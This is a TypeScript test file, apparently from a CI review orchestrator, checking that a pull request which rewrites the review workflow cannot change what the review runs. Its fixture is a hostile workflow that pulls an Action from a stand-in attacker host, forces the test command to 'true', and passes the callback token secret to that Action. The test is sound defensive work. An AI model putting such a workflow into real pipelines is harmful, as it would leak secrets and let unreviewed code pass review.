/**
 * Issue 14 item 6: the review workflow runs from the default branch. A pull request whose branch rewrites the
 * review workflow (its own test command, its own Action, a step that just passes) changes nothing about what the
 * review runs: the review phase dispatches on the default branch, and the workflow a runner reads for that
 * dispatch is the one setup wrote.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT } from '../support/cli.js';
import { planWorkflowRun } from '../support/runAction.js';
import { Loop, specText } from './harness.js';

const WORKFLOW = '.gitea/workflows/damascus-review.yml';

/** The PR's version: passes whatever the code does, with an Action of its own. */
const HOSTILE_WORKFLOW = `name: damascus-review
on:
  workflow_dispatch:
    inputs:
      work-item: { type: string, required: true }
      head-sha: { type: string, required: true }
      pull-request: { type: string, required: false, default: "" }
      test-command: { type: string, required: true }
      orchestrator-url: { type: string, required: true }
      timeout-minutes: { type: string, required: false, default: "30" }
      dispatch: { type: string, required: false, default: "" }
jobs:
  review:
    runs-on: damascus
    steps:
      - uses: http://attacker.invalid/evil/always-pass@${'f'.repeat(40)}
        with:
          head-sha: \${{ inputs.head-sha }}
          test-command: "true"
          work-item: \${{ inputs.work-item }}
          orchestrator-url: \${{ inputs.orchestrator-url }}
          token: \${{ secrets.DAMASCUS_CALLBACK_TOKEN }}
`;

describe('ATTACK: a pull request that edits the review workflow', () => {
  const loop = new Loop();
  beforeAll(async () => {
    await loop.start();
  });
  afterAll(async () => {
    await loop.stop();
  });

  const git = (...args: string[]) => execFileSync('git', ['--git-dir', loop.sim.repoPath('acme', 'widgets'), ...args], { encoding: 'utf8' }).trim();

  test('the review is dispatched on the default branch, whose workflow (the one setup wrote) is what a runner runs', async () => {
    loop.scriptLlm({ text: specText({ scope: 'edit.txt', testCommand: 'npm test' }) });
    await loop.setAgent({ writes: { 'edit.txt': 'x\n' } });
    loop.reviews = [{ passed: false, failing: ['edit > is tested'] }];
    const setupWorkflow = git('show', `main:${WORKFLOW}`);
    const id = await loop.story('Edit the review workflow');
    await loop.runUntil(id, ['review'], 10);

    // Someone with push access to the PR branch rewrites the review workflow before the review runs.
    const [row] = await loop.db.sql`SELECT branch, head_sha FROM work_items WHERE id = ${id}`;
    const pushed = await loop.sim.pushToBranch('acme', 'widgets', row!.branch as string, {
      files: { [WORKFLOW]: HOSTILE_WORKFLOW },
      from: row!.headSha as string,
      by: 'alice',
    });
    expect(git('show', `${pushed}:${WORKFLOW}`)).toBe(HOSTILE_WORKFLOW.trim());

    const before = loop.sim.dispatches.length;
    await loop.tick();
    expect(loop.sim.dispatches).toHaveLength(before + 1);
    const d = loop.sim.dispatches.at(-1)!;
    // The pushed head is what gets tested, but the workflow comes from main's tip, not from the PR.
    expect(d.inputs['head-sha']).toBe(pushed);
    expect(d.ref).toBe('main');
    expect(d.sha).toBe(git('rev-parse', 'refs/heads/main'));
    const runWorkflow = git('show', `${d.sha}:${WORKFLOW}`);
    expect(runWorkflow).toBe(setupWorkflow);

    // What a runner makes of that dispatch: the pinned Damascus Action, the configured test command, the callback secret.
    const actionYml = readFileSync(join(ROOT, 'action', 'action.yml'), 'utf8');
    const plan = planWorkflowRun(runWorkflow, d, new Map([['DAMASCUS_CALLBACK_TOKEN', 'secret']]), 'job-token', actionYml);
    expect(plan.actionUrl).toBe('http://127.0.0.1:9/damascus-bot/damascus-action');
    expect(plan.actionRef).toBe('0'.repeat(40));
    expect(plan.inputs['test-command']).toBe('npm test');
    expect(plan.inputs.dispatch).toBe(d.inputs.dispatch);
    expect(plan.inputs['head-sha']).toBe(pushed);

    // The real result (a failure) decides: the story goes back to build, nothing is merged.
    await loop.runUntil(id, ['build', 'done', 'blocked', 'awaiting_human'], 5);
    expect((await loop.state(id)).state).toBe('build');
    expect(git('show', `main:${WORKFLOW}`)).toBe(setupWorkflow);
  });
});
